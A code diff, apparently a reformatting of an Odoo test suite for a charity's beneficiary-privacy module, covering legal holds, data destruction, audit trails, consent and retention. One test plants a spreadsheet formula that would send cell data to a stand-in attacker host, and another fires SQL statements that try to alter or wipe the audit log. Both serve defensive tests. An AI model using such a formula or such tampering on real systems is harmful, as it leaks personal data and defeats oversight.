@@ -24,21 +24,46 @@ class AttaPrivacyCase(AttaBeneficiaryCase):
         cls.consent_text = cls.env.ref("atta_beneficiary.consent_text_consent_v1")
         cls.beneficiary = cls._complete_file(cls._beneficiary(email="fatimah@example.com"))
         cls.beneficiary.action_register()
-        cls.consent = cls.env["atta.beneficiary.consent"].create({
-            "beneficiary_id": cls.beneficiary.id, "text_id": cls.consent_text.id,
-            "accepted_by_name": cls.beneficiary.name, "channel_id": cls.channel_interview.id})
-        cls.env["atta.family.member"].create({"beneficiary_id": cls.beneficiary.id, "name": "Omar Saleh Alqahtani",
-                                              "relation": "son", "health_notes": "asthma"})
-        cls.env["atta.income.line"].create({"beneficiary_id": cls.beneficiary.id, "income_type": "pension",
-                                            "amount": 1800})
+        cls.consent = cls.env["atta.beneficiary.consent"].create(
+            {
+                "beneficiary_id": cls.beneficiary.id,
+                "text_id": cls.consent_text.id,
+                "accepted_by_name": cls.beneficiary.name,
+                "channel_id": cls.channel_interview.id,
+            }
+        )
+        cls.env["atta.family.member"].create(
+            {
+                "beneficiary_id": cls.beneficiary.id,
+                "name": "Omar Saleh Alqahtani",
+                "relation": "son",
+                "health_notes": "asthma",
+            }
+        )
+        cls.env["atta.income.line"].create(
+            {"beneficiary_id": cls.beneficiary.id, "income_type": "pension", "amount": 1800}
+        )
         cls.other = cls._beneficiary("1000000016", name="Huda Nasser Alharbi", phone="0559876543")
         cls.Log = cls.env["atta.audit.log"]
 
     def _data_request(self, kind, beneficiary=None, user=None, **values):
         person = beneficiary or self.beneficiary
-        return self.env["atta.data.request"].with_user(user or self.officer).create(dict({
-            "kind": kind, "identity_type": person.identity_type, "identity_number": person.identity_number,
-            "requester_name": person.name, "channel_id": self.channel_interview.id}, **values))
+        return (
+            self.env["atta.data.request"]
+            .with_user(user or self.officer)
+            .create(
+                dict(
+                    {
+                        "kind": kind,
+                        "identity_type": person.identity_type,
+                        "identity_number": person.identity_number,
+                        "requester_name": person.name,
+                        "channel_id": self.channel_interview.id,
+                    },
+                    **values,
+                )
+            )
+        )
 
 
 @tagged("post_install", "-at_install")
@@ -57,15 +82,19 @@ class TestDestructionAsTheLawSays(AttaPrivacyCase):
             as_officer.write({"legal_hold_reason": "Nothing pending"})
         with self.assertRaisesText(UserError, "destruction request"):
             as_officer.write({"erased_on": "2026-01-01 00:00:00"})
-        self.assertEqual((self.beneficiary.legal_hold, self.beneficiary.legal_hold_reason),
-                         (True, "Court case 1447/33"), "the hold is as the manager left it")
+        self.assertEqual(
+            (self.beneficiary.legal_hold, self.beneficiary.legal_hold_reason),
+            (True, "Court case 1447/33"),
+            "the hold is as the manager left it",
+        )
         self.assertFalse(self.beneficiary.erased_on)
         # Writing the values already there is no change: the form may send them.
         as_officer.write({"legal_hold": True, "city": "Riyadh"})
         self.assertEqual(self.beneficiary.city, "Riyadh")
         with self.assertRaisesText(AccessError, "legal hold"):
-            self.env["atta.beneficiary"].with_user(self.officer).create({
-                "name": "Held At Birth", "identity_number": "1000000024", "legal_hold": True})
+            self.env["atta.beneficiary"].with_user(self.officer).create(
+                {"name": "Held At Birth", "identity_number": "1000000024", "legal_hold": True}
+            )
         as_manager.write({"legal_hold": False, "legal_hold_reason": False})
         self.assertFalse(self.beneficiary.legal_hold)
         with self.assertRaisesText(UserError, "destruction request"):
@@ -132,11 +161,17 @@ class TestDestructionAsTheLawSays(AttaPrivacyCase):
         self.assertEqual(len(exports), 2, "a PDF and a spreadsheet were given to the person")
         # The officer saved a copy of the export on the person's letter register, under its own name.
         letter = self.env["atta.letter"].create({"subject": "Copy of data sent", "direction": "outgoing"})
-        forwarded = self.env["ir.attachment"].create({
-            "name": f"Personal data {copy.name} (sent by post).pdf", "raw": PDF_BYTES,
-            "res_model": "atta.letter", "res_id": letter.id})
-        kept = self.env["ir.attachment"].create({"name": "Minutes of the board.pdf", "raw": PDF_BYTES,
-                                                 "res_model": "atta.letter", "res_id": letter.id})
+        forwarded = self.env["ir.attachment"].create(
+            {
+                "name": f"Personal data {copy.name} (sent by post).pdf",
+                "raw": PDF_BYTES,
+                "res_model": "atta.letter",
+                "res_id": letter.id,
+            }
+        )
+        kept = self.env["ir.attachment"].create(
+            {"name": "Minutes of the board.pdf", "raw": PDF_BYTES, "res_model": "atta.letter", "res_id": letter.id}
+        )
         self._data_request("destruction").with_user(self.manager).action_destroy()
         self.assertFalse(exports.exists())
         self.assertFalse(forwarded.exists(), "a file named after the person's request goes wherever it hangs")
@@ -163,14 +198,18 @@ class TestRegisteredFileStaysAsItIs(AttaPrivacyCase):
         with self.assertRaisesText(AccessError, "Only a manager may archive"):
             as_officer._set_status("archived", "Moved away")
         with self.assertRaisesText(UserError, "starts as a draft"):
-            self.env["atta.beneficiary"].with_user(self.officer).create({
-                "name": "Registered From Nowhere", "identity_number": "1000000024", "state": "registered"})
+            self.env["atta.beneficiary"].with_user(self.officer).create(
+                {"name": "Registered From Nowhere", "identity_number": "1000000024", "state": "registered"}
+            )
         self.assertEqual(self.beneficiary.state, "registered")
         self.assertTrue(self.beneficiary.exists())
         self.assertTrue(self.beneficiary.consent_ids, "no consent went by cascade")
-        self.assertFalse(self.Log.search([("action", "=", "delete"), ("res_id", "=", self.beneficiary.id)]),
-                         self.Log.search([("action", "=", "delete")]).mapped(lambda e: (e.res_model, e.res_id,
-                                                                                        e.reference, e.user_id.name)))
+        self.assertFalse(
+            self.Log.search([("action", "=", "delete"), ("res_id", "=", self.beneficiary.id)]),
+            self.Log.search([("action", "=", "delete")]).mapped(
+                lambda e: (e.res_model, e.res_id, e.reference, e.user_id.name)
+            ),
+        )
         # The steps themselves still work for the officer.
         as_officer._set_status("suspended", "Did not renew documents")
         self.assertEqual(self.beneficiary.state, "suspended")
@@ -189,14 +228,19 @@ class TestRegisteredFileStaysAsItIs(AttaPrivacyCase):
         self.assertEqual(len(self.beneficiary.consent_ids), 2)
 
     def test_a_draft_typed_by_mistake_is_deleted_with_a_trail(self):
-        draft = self.env["atta.beneficiary"].with_user(self.officer).create({
-            "name": "Typo Typo", "identity_number": "2000000006", "identity_type": "iqama"})
+        draft = (
+            self.env["atta.beneficiary"]
+            .with_user(self.officer)
+            .create({"name": "Typo Typo", "identity_number": "2000000006", "identity_type": "iqama"})
+        )
         reference = draft.reference
         draft.unlink()
         self.assertFalse(draft.exists())
         log = self.Log.search([("action", "=", "delete"), ("res_id", "=", draft.id)])
-        self.assertEqual((log.user_id, log.res_model, log.res_id, log.reference),
-                         (self.officer, "atta.beneficiary", draft.id, reference))
+        self.assertEqual(
+            (log.user_id, log.res_model, log.res_id, log.reference),
+            (self.officer, "atta.beneficiary", draft.id, reference),
+        )
 
 
 @tagged("post_install", "-at_install")
@@ -212,8 +256,9 @@ class TestAuditSeesEveryPath(AttaPrivacyCase):
     def assertOneEntry(self, call, action, records, user=None):
         entries = self._calls(call)
         self.assertEqual(len(entries), 1, f"exactly one entry for {action}")
-        self.assertEqual((entries.action, entries.user_id, entries.res_model),
-                         (action, user or self.officer, records._name))
+        self.assertEqual(
+            (entries.action, entries.user_id, entries.res_model), (action, user or self.officer, records._name)
+        )
         self.assertEqual(sorted(map(int, entries.res_ids.split(","))), sorted(records.ids))
         self.assertEqual(entries.res_count, len(records))
         self.assertEqual(entries.res_id, records.id if len(records) == 1 else 0)
@@ -227,36 +272,70 @@ class TestAuditSeesEveryPath(AttaPrivacyCase):
         self.assertOneEntry(lambda: files.with_user(self.officer).read(["name", "identity_number"]), "view", files)
         self.assertOneEntry(lambda: Beneficiary.search_read(domain, ["name"], order=order), "view", files)
         self.assertOneEntry(lambda: files.with_user(self.officer).web_read({"name": {}}), "view", files)
-        entry = self.assertOneEntry(lambda: Beneficiary.web_search_read(domain, {"name": {}, "identity_number": {}}),
-                                    "view", files)
+        entry = self.assertOneEntry(
+            lambda: Beneficiary.web_search_read(domain, {"name": {}, "identity_number": {}}), "view", files
+        )
         self.assertEqual(set(entry.reference.split(", ")), set(files.mapped("reference")))
-        self.assertEqual(self.Log.search([("record_id", "=", self.other.id)]), entry | self.Log.search(
-            [("res_ids", "like", str(self.other.id))]), "found by the record whatever the list it was in")
-        self.assertOneEntry(lambda: Beneficiary.web_read_group(domain, ["state"], unfold_read_specification={
-            "name": {}}, auto_unfold=True), "view", files)
+        self.assertEqual(
+            self.Log.search([("record_id", "=", self.other.id)]),
+            entry | self.Log.search([("res_ids", "like", str(self.other.id))]),
+            "found by the record whatever the list it was in",
+        )
+        self.assertOneEntry(
+            lambda: Beneficiary.web_read_group(
+                domain, ["state"], unfold_read_specification={"name": {}}, auto_unfold=True
+            ),
+            "view",
+            files,
+        )
         self.assertOneEntry(lambda: Beneficiary.name_search("Alqahtani"), "view", self.beneficiary)
-        entry = self.assertOneEntry(lambda: files.with_user(self.officer).export_data(["name", "identity_number"]),
-                                    "export", files)
+        entry = self.assertOneEntry(
+            lambda: files.with_user(self.officer).export_data(["name", "identity_number"]), "export", files
+        )
         self.assertEqual(entry.detail, "2 fields exported")
         # A form with its family lines: one entry for the file, one for the lines it read, one insert.
-        entries = self._calls(lambda: self.beneficiary.with_user(self.officer).web_read(
-            {"name": {}, "family_member_ids": {"fields": {"name": {}, "health_notes": {}}}}))
-        self.assertEqual([(e.res_model, e.res_ids) for e in entries.sorted("id")], [
-            ("atta.beneficiary", str(self.beneficiary.id)),
-            ("atta.family.member", ",".join(map(str, self.beneficiary.family_member_ids.ids)))])
-        self.assertFalse(self._calls(lambda: self.beneficiary.with_user(self.officer).web_read({"name": {}})),
-                         "the same form opened again within ten minutes: no second entry")
+        entries = self._calls(
+            lambda: self.beneficiary.with_user(self.officer).web_read(
+                {"name": {}, "family_member_ids": {"fields": {"name": {}, "health_notes": {}}}}
+            )
+        )
+        self.assertEqual(
+            [(e.res_model, e.res_ids) for e in entries.sorted("id")],
+            [
+                ("atta.beneficiary", str(self.beneficiary.id)),
+                ("atta.family.member", ",".join(map(str, self.beneficiary.family_member_ids.ids))),
+            ],
+        )
+        self.assertFalse(
+            self._calls(lambda: self.beneficiary.with_user(self.officer).web_read({"name": {}})),
+            "the same form opened again within ten minutes: no second entry",
+        )
 
     def test_family_income_and_expense_lines_are_audited(self):
         members = self.beneficiary.family_member_ids
-        entry = self.assertOneEntry(lambda: self.env["atta.family.member"].with_user(self.officer).search_read(
-            [("beneficiary_id", "=", self.beneficiary.id)], ["name", "health_notes"]), "view", members)
+        entry = self.assertOneEntry(
+            lambda: (
+                self.env["atta.family.member"]
+                .with_user(self.officer)
+                .search_read([("beneficiary_id", "=", self.beneficiary.id)], ["name", "health_notes"])
+            ),
+            "view",
+            members,
+        )
         self.assertEqual(entry.reference, self.beneficiary.reference, "the file number, never the member's name")
         lines = self.beneficiary.income_line_ids
-        self.assertOneEntry(lambda: self.env["atta.income.line"].with_user(self.officer).web_search_read(
-            [("beneficiary_id", "=", self.beneficiary.id)], {"amount": {}}), "view", lines)
-        expense = self.env["atta.expense.line"].create({"beneficiary_id": self.beneficiary.id,
-                                                         "expense_type": "rent", "amount": 900})
+        self.assertOneEntry(
+            lambda: (
+                self.env["atta.income.line"]
+                .with_user(self.officer)
+                .web_search_read([("beneficiary_id", "=", self.beneficiary.id)], {"amount": {}})
+            ),
+            "view",
+            lines,
+        )
+        expense = self.env["atta.expense.line"].create(
+            {"beneficiary_id": self.beneficiary.id, "expense_type": "rent", "amount": 900}
+        )
         self.assertOneEntry(lambda: expense.with_user(self.officer).read(["amount"]), "view", expense)
 
     def test_reports_and_downloads_leave_one_entry(self):
@@ -265,8 +344,9 @@ class TestAuditSeesEveryPath(AttaPrivacyCase):
         files = self.beneficiary | self.other
         self.assertOneEntry(lambda: Report._render_qweb_html(report, files.ids), "print", files)
         self.assertOneEntry(lambda: Report._render_qweb_pdf(report, files.ids), "print", files)
-        self.assertOneEntry(lambda: Report.with_context(lang="ar_001")._render_qweb_pdf(report, self.other.ids),
-                            "print", self.other)
+        self.assertOneEntry(
+            lambda: Report.with_context(lang="ar_001")._render_qweb_pdf(report, self.other.ids), "print", self.other
+        )
 
     def test_the_code_own_reads_leave_no_entry(self):
         def internal_reads():
@@ -279,12 +359,15 @@ class TestAuditSeesEveryPath(AttaPrivacyCase):
         self.assertFalse(self._calls(internal_reads))
 
     def test_the_trail_refuses_update_and_delete_in_the_database(self):
-        entry = self.assertOneEntry(lambda: self.beneficiary.with_user(self.officer).read(["name"]), "view",
-                                    self.beneficiary)
-        for statement in ("UPDATE atta_audit_log SET detail = 'nothing happened' WHERE id = %s",
-                          "DELETE FROM atta_audit_log WHERE id = %s",
-                          "UPDATE atta_audit_log SET user_id = NULL WHERE id = -%s",
-                          "TRUNCATE atta_audit_log"):
+        entry = self.assertOneEntry(
+            lambda: self.beneficiary.with_user(self.officer).read(["name"]), "view", self.beneficiary
+        )
+        for statement in (
+            "UPDATE atta_audit_log SET detail = 'nothing happened' WHERE id = %s",
+            "DELETE FROM atta_audit_log WHERE id = %s",
+            "UPDATE atta_audit_log SET user_id = NULL WHERE id = -%s",
+            "TRUNCATE atta_audit_log",
+        ):
             with mute_logger("odoo.sql_db"), self.assertRaises(psycopg2.errors.InsufficientPrivilege):
                 with self.env.cr.savepoint():
                     self.env.cr.execute(statement, [entry.id] if "%s" in statement else None)
@@ -302,8 +385,9 @@ class TestDownloadRoutesAreAudited(HttpCase, AttaPrivacyCase):
 
     def test_a_scan_downloaded_through_web_content_leaves_one_entry(self):
         scan = self.beneficiary.document_ids[:1]
-        attached = self.env["ir.attachment"].create({"name": "visit.pdf", "raw": PDF_BYTES,
-                                                     "res_model": "atta.beneficiary", "res_id": self.beneficiary.id})
+        attached = self.env["ir.attachment"].create(
+            {"name": "visit.pdf", "raw": PDF_BYTES, "res_model": "atta.beneficiary", "res_id": self.beneficiary.id}
+        )
         self.authenticate("atta_officer", "atta_officer")
         last = self.Log.search([], limit=1).id
         response = self.url_open(f"/web/content/atta.beneficiary.document/{scan.id}/attachment?download=1")
@@ -312,29 +396,35 @@ class TestDownloadRoutesAreAudited(HttpCase, AttaPrivacyCase):
         self.assertEqual(response.content, PDF_BYTES)
         self.url_open(f"/web/image/atta.beneficiary/{self.beneficiary.id}/avatar_128")
         entries = self.Log.search([("id", ">", last)], order="id")
-        self.assertEqual([(e.action, e.res_model, e.res_id, e.user_id) for e in entries], [
-            ("download", "atta.beneficiary.document", scan.id, self.officer),
-            ("download", "atta.beneficiary", self.beneficiary.id, self.officer),
-        ], "a thumbnail in a list is not a download")
+        self.assertEqual(
+            [(e.action, e.res_model, e.res_id, e.user_id) for e in entries],
+            [
+                ("download", "atta.beneficiary.document", scan.id, self.officer),
+                ("download", "atta.beneficiary", self.beneficiary.id, self.officer),
+            ],
+            "a thumbnail in a list is not a download",
+        )
 
 
 @tagged("post_install", "-at_install")
 class TestSpreadsheetTextStaysText(AttaPrivacyCase):
-
     def test_a_name_beginning_with_equals_is_written_as_text(self):
         formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
         self.beneficiary.write({"name": formula})
         copy = self._data_request("copy")
         copy.action_export()
-        xlsx = self.env["ir.attachment"].search([("res_model", "=", "atta.data.request"), ("res_id", "=", copy.id),
-                                                 ("name", "=like", "%.xlsx")])
+        xlsx = self.env["ir.attachment"].search(
+            [("res_model", "=", "atta.data.request"), ("res_id", "=", copy.id), ("name", "=like", "%.xlsx")]
+        )
         workbook = openpyxl.load_workbook(io.BytesIO(base64.b64decode(xlsx.datas)))
-        cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
-                 if cell.value == formula]
+        cells = [
+            cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row if cell.value == formula
+        ]
         self.assertTrue(cells, "the name is in the copy, exactly as typed")
         self.assertEqual({cell.data_type for cell in cells}, {"s"}, "a string cell, never a formula")
-        amounts = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
-                   if cell.value == 1800]
+        amounts = [
+            cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row if cell.value == 1800
+        ]
         self.assertTrue(amounts)
         self.assertEqual({cell.data_type for cell in amounts}, {"n"}, "numbers stay numbers")
 
@@ -344,9 +434,16 @@ class TestConsentAtSendTime(AttaPrivacyCase):
     """A mail queued before the withdrawal is checked again when the queue runs, on every recipient field."""
 
     def _queued(self, **values):
-        return self.env["mail.mail"].create(dict({
-            "subject": "Your appointment", "body_html": "<p>See you on Sunday</p>",
-            "email_from": "atta@example.com"}, **values))
+        return self.env["mail.mail"].create(
+            dict(
+                {
+                    "subject": "Your appointment",
+                    "body_html": "<p>See you on Sunday</p>",
+                    "email_from": "atta@example.com",
+                },
+                **values,
+            )
+        )
 
     def _run_queue(self, mails):
         self.env["mail.mail"].process_email_queue(email_ids=mails.ids)
@@ -356,8 +453,10 @@ class TestConsentAtSendTime(AttaPrivacyCase):
         to_partner = self._queued(recipient_ids=[Command.link(partner.id)])
         to_address = self._queued(email_to="Fatimah <fatimah@example.com>")
         to_cc = self._queued(email_cc="fatimah@example.com")
-        shared = self._queued(email_to="fatimah@example.com, neighbour@example.com",
-                              recipient_ids=[Command.link(self.other.partner_id.id)])
+        shared = self._queued(
+            email_to="fatimah@example.com, neighbour@example.com",
+            recipient_ids=[Command.link(self.other.partner_id.id)],
+        )
         # Someone else's contact card that carries the same address.
         twin = self.env["res.partner"].create({"name": "Old contact card", "email": "FATIMAH@example.com"})
         to_twin = self._queued(recipient_ids=[Command.link(twin.id)])
@@ -381,8 +480,11 @@ class TestConsentAtSendTime(AttaPrivacyCase):
         typed = self._queued(email_to="fatimah@example.com")
         self.assertEqual((typed.state, typed.failure_type), ("cancel", "mail_optout"))
         self.beneficiary.with_user(self.officer).message_post(
-            body="Your file is complete", partner_ids=self.beneficiary.partner_id.ids,
-            message_type="comment", subtype_xmlid="mail.mt_comment")
+            body="Your file is complete",
+            partner_ids=self.beneficiary.partner_id.ids,
+            message_type="comment",
+            subtype_xmlid="mail.mt_comment",
+        )
         posted = self.env["mail.mail"].search([("body_html", "ilike", "Your file is complete")])
         self.assertEqual(posted.state, "cancel")
         self.assertFalse(posted.recipient_ids)
@@ -396,8 +498,11 @@ class TestRetentionRunsOnlyAsDecided(AttaPrivacyCase):
         super().setUp()
         self.rule = self.env.ref("atta_beneficiary.retention_inactive_beneficiary")
         # The other file was archived long ago: the rule is due on it.
-        self.env.cr.execute("UPDATE atta_beneficiary SET state = 'archived', active = FALSE, "
-                            "write_date = now() - interval '20 years' WHERE id = %s", [self.other.id])
+        self.env.cr.execute(
+            "UPDATE atta_beneficiary SET state = 'archived', active = FALSE, "
+            "write_date = now() - interval '20 years' WHERE id = %s",
+            [self.other.id],
+        )
         self.env.invalidate_all()
         self.assertIn(self.other, self.rule._candidates())
         self.cron = self.env.ref("atta_beneficiary.ir_cron_retention")
@@ -426,8 +531,11 @@ class TestRetentionRunsOnlyAsDecided(AttaPrivacyCase):
         # The cron itself, in superuser mode with its own id, does report its progress.
         self.assertTrue(self.rule.with_context(**self.spoofed)._running_as_retention_cron())
         other_cron = self.env.ref("atta_beneficiary.ir_cron_data_request_deadline")
-        self.assertFalse(self.rule.with_context(ir_cron_progress_id=self.progress.id,
-                                                cron_id=other_cron.id)._running_as_retention_cron())
+        self.assertFalse(
+            self.rule.with_context(
+                ir_cron_progress_id=self.progress.id, cron_id=other_cron.id
+            )._running_as_retention_cron()
+        )
 
 
 @tagged("post_install", "-at_install")
@@ -445,8 +553,7 @@ class TestDataRequestStateOnlyThroughItsSteps(AttaPrivacyCase):
             destruction.write({"escalated": True})
         with self.assertRaisesText(UserError, "through the steps of the process"):
             self._data_request("destruction", state="done", answered_on=fields.Date.today())
-        self.assertEqual((destruction.state, destruction.answered_on, destruction.response),
-                         ("received", False, False))
+        self.assertEqual((destruction.state, destruction.answered_on, destruction.response), ("received", False, False))
         self.assertFalse(self.beneficiary.erased_on)
         self.assertEqual(self.env["atta.data.request"].search_count([("state", "=", "done")]), 0)
 
@@ -488,12 +595,20 @@ class TestDocumentVerificationOnlyByTheStep(AttaPrivacyCase):
         self.assertEqual((document.verified, document.verified_by_id), (True, verified_by))
         # A new scan alone: kept, and to be checked again.
         document.write({"attachment": forged})
-        self.assertEqual((document.verified, document.verified_by_id, document.verified_on, document.status),
-                         (False, self.env["res.users"], False, "to_verify"))
+        self.assertEqual(
+            (document.verified, document.verified_by_id, document.verified_on, document.status),
+            (False, self.env["res.users"], False, "to_verify"),
+        )
         with self.assertRaisesText(UserError, "through the steps of the process"):
-            self.env["atta.beneficiary.document"].with_user(self.officer).create({
-                "beneficiary_id": self.other.id, "document_type_id": document.document_type_id.id,
-                "attachment": forged, "verified": True, "verified_by_id": self.manager.id})
+            self.env["atta.beneficiary.document"].with_user(self.officer).create(
+                {
+                    "beneficiary_id": self.other.id,
+                    "document_type_id": document.document_type_id.id,
+                    "attachment": forged,
+                    "verified": True,
+                    "verified_by_id": self.manager.id,
+                }
+            )
         self.assertFalse(self.other.document_ids)
 
     def test_the_verify_and_reject_steps_still_work_for_the_officer(self):
@@ -501,8 +616,9 @@ class TestDocumentVerificationOnlyByTheStep(AttaPrivacyCase):
         document.action_reject()
         self.assertEqual((document.verified, document.status), (False, "rejected"))
         document.action_verify()
-        self.assertEqual((document.verified, document.verified_by_id, document.status),
-                         (True, self.officer, "verified"))
+        self.assertEqual(
+            (document.verified, document.verified_by_id, document.status), (True, self.officer, "verified")
+        )
         with self.assertRaises(AccessError):
             document.with_user(self.employee).action_reject()
         self.assertTrue(document.verified)
@@ -520,8 +636,10 @@ class TestAuditSeesGroupedNestedAndAttachedReads(AttaPrivacyCase):
     def assertRow(self, entries, model, records, detail=None):
         self.assertEqual(len(entries), 1, f"exactly one entry for {model}")
         self.assertEqual((entries.action, entries.user_id, entries.res_model), ("view", self.officer, model))
-        self.assertEqual(sorted(map(int, (entries.res_ids or "0").split(","))) if records else entries.res_ids,
-                         sorted(records.ids) if records else "")
+        self.assertEqual(
+            sorted(map(int, (entries.res_ids or "0").split(","))) if records else entries.res_ids,
+            sorted(records.ids) if records else "",
+        )
         self.assertEqual(entries.res_count, len(records))
         if detail:
             self.assertEqual(entries.detail, detail)
@@ -530,12 +648,20 @@ class TestAuditSeesGroupedNestedAndAttachedReads(AttaPrivacyCase):
         files = self.beneficiary | self.other
         Beneficiary = self.env["atta.beneficiary"].with_user(self.officer)
         domain = [("id", "in", files.ids)]
-        self.assertRow(self._calls(lambda: Beneficiary.formatted_read_group(domain, ["identity_number"], ["__count"])),
-                       "atta.beneficiary", files, "Listed by group: Identity Number")
-        self.assertRow(self._calls(lambda: Beneficiary.formatted_read_grouping_sets(
-            domain, [["name"], ["state"]], ["__count"])), "atta.beneficiary", files)
-        self.assertRow(self._calls(lambda: Beneficiary.web_read_group(domain, ["identity_number"])),
-                       "atta.beneficiary", files)
+        self.assertRow(
+            self._calls(lambda: Beneficiary.formatted_read_group(domain, ["identity_number"], ["__count"])),
+            "atta.beneficiary",
+            files,
+            "Listed by group: Identity Number",
+        )
+        self.assertRow(
+            self._calls(lambda: Beneficiary.formatted_read_grouping_sets(domain, [["name"], ["state"]], ["__count"])),
+            "atta.beneficiary",
+            files,
+        )
+        self.assertRow(
+            self._calls(lambda: Beneficiary.web_read_group(domain, ["identity_number"])), "atta.beneficiary", files
+        )
 
         def legacy_read_group():
             with warnings.catch_warnings():
@@ -544,40 +670,70 @@ class TestAuditSeesGroupedNestedAndAttachedReads(AttaPrivacyCase):
 
         self.assertRow(self._calls(legacy_read_group), "atta.beneficiary", files)
         # By status alone: nothing about a person, still one row naming what was read.
-        self.assertRow(self._calls(lambda: Beneficiary.formatted_read_group(domain, ["state"], ["__count"])),
-                       "atta.beneficiary", self.env["atta.beneficiary"], "Listed by group: File Status")
+        self.assertRow(
+            self._calls(lambda: Beneficiary.formatted_read_group(domain, ["state"], ["__count"])),
+            "atta.beneficiary",
+            self.env["atta.beneficiary"],
+            "Listed by group: File Status",
+        )
 
     def test_a_nested_read_of_another_audited_model_leaves_its_own_row(self):
         document = self.beneficiary.document_ids[:1]
         members = self.beneficiary.family_member_ids
-        entries = self._calls(lambda: document.with_user(self.officer).web_read({
-            "name": {}, "beneficiary_id": {"fields": {"identity_number": {}, "family_member_ids": {
-                "fields": {"name": {}, "health_notes": {}}}}}}))
-        self.assertEqual([(e.res_model, e.res_ids, e.user_id) for e in entries], [
-            ("atta.beneficiary.document", str(document.id), self.officer),
-            ("atta.beneficiary", str(self.beneficiary.id), self.officer),
-            ("atta.family.member", ",".join(map(str, members.ids)), self.officer)])
+        entries = self._calls(
+            lambda: document.with_user(self.officer).web_read(
+                {
+                    "name": {},
+                    "beneficiary_id": {
+                        "fields": {
+                            "identity_number": {},
+                            "family_member_ids": {"fields": {"name": {}, "health_notes": {}}},
+                        }
+                    },
+                }
+            )
+        )
+        self.assertEqual(
+            [(e.res_model, e.res_ids, e.user_id) for e in entries],
+            [
+                ("atta.beneficiary.document", str(document.id), self.officer),
+                ("atta.beneficiary", str(self.beneficiary.id), self.officer),
+                ("atta.family.member", ",".join(map(str, members.ids)), self.officer),
+            ],
+        )
         self.assertEqual(entries[1].detail, "Read with Beneficiary Document")
         # A many2one shown by its name only reads no field of the other model: no second row.
-        entries = self._calls(lambda: document.with_user(self.officer).web_search_read(
-            [("id", "=", document.id)], {"beneficiary_id": {"fields": {"display_name": {}}}}))
+        entries = self._calls(
+            lambda: document.with_user(self.officer).web_search_read(
+                [("id", "=", document.id)], {"beneficiary_id": {"fields": {"display_name": {}}}}
+            )
+        )
         self.assertEqual(entries.mapped("res_model"), ["atta.beneficiary.document"])
 
     def test_scans_read_as_attachments_leave_one_row(self):
-        scans = self.env["ir.attachment"].search([("res_model", "=", "atta.beneficiary.document"),
-                                                  ("res_field", "=", "attachment"),
-                                                  ("res_id", "in", self.beneficiary.document_ids.ids)])
+        scans = self.env["ir.attachment"].search(
+            [
+                ("res_model", "=", "atta.beneficiary.document"),
+                ("res_field", "=", "attachment"),
+                ("res_id", "in", self.beneficiary.document_ids.ids),
+            ]
+        )
         self.assertTrue(scans)
         Attachment = self.env["ir.attachment"].with_user(self.officer)
-        domain = [("res_model", "=", "atta.beneficiary.document"), ("res_field", "=", "attachment"),
-                  ("res_id", "in", self.beneficiary.document_ids.ids)]
+        domain = [
+            ("res_model", "=", "atta.beneficiary.document"),
+            ("res_field", "=", "attachment"),
+            ("res_id", "in", self.beneficiary.document_ids.ids),
+        ]
         entries = self._calls(lambda: Attachment.search_read(domain, ["datas", "name"]))
         self.assertRow(entries, "ir.attachment", scans)
         self.assertEqual(entries.reference, self.beneficiary.reference, "the file number, never the file name")
-        self.assertRow(self._calls(lambda: Attachment.web_search_read(domain, {"name": {}, "datas": {}})),
-                       "ir.attachment", scans)
+        self.assertRow(
+            self._calls(lambda: Attachment.web_search_read(domain, {"name": {}, "datas": {}})), "ir.attachment", scans
+        )
         self.assertRow(self._calls(lambda: scans.with_user(self.officer).read(["datas"])), "ir.attachment", scans)
         # The attachments of records outside Atta are not personal files of the association: no row.
-        other = self.env["ir.attachment"].create({"name": "memo.txt", "raw": b"memo",
-                                                  "res_model": "res.partner", "res_id": self.officer.partner_id.id})
+        other = self.env["ir.attachment"].create(
+            {"name": "memo.txt", "raw": b"memo", "res_model": "res.partner", "res_id": self.officer.partner_id.id}
+        )
         self.assertFalse(self._calls(lambda: other.with_user(self.officer).read(["name", "datas"])))
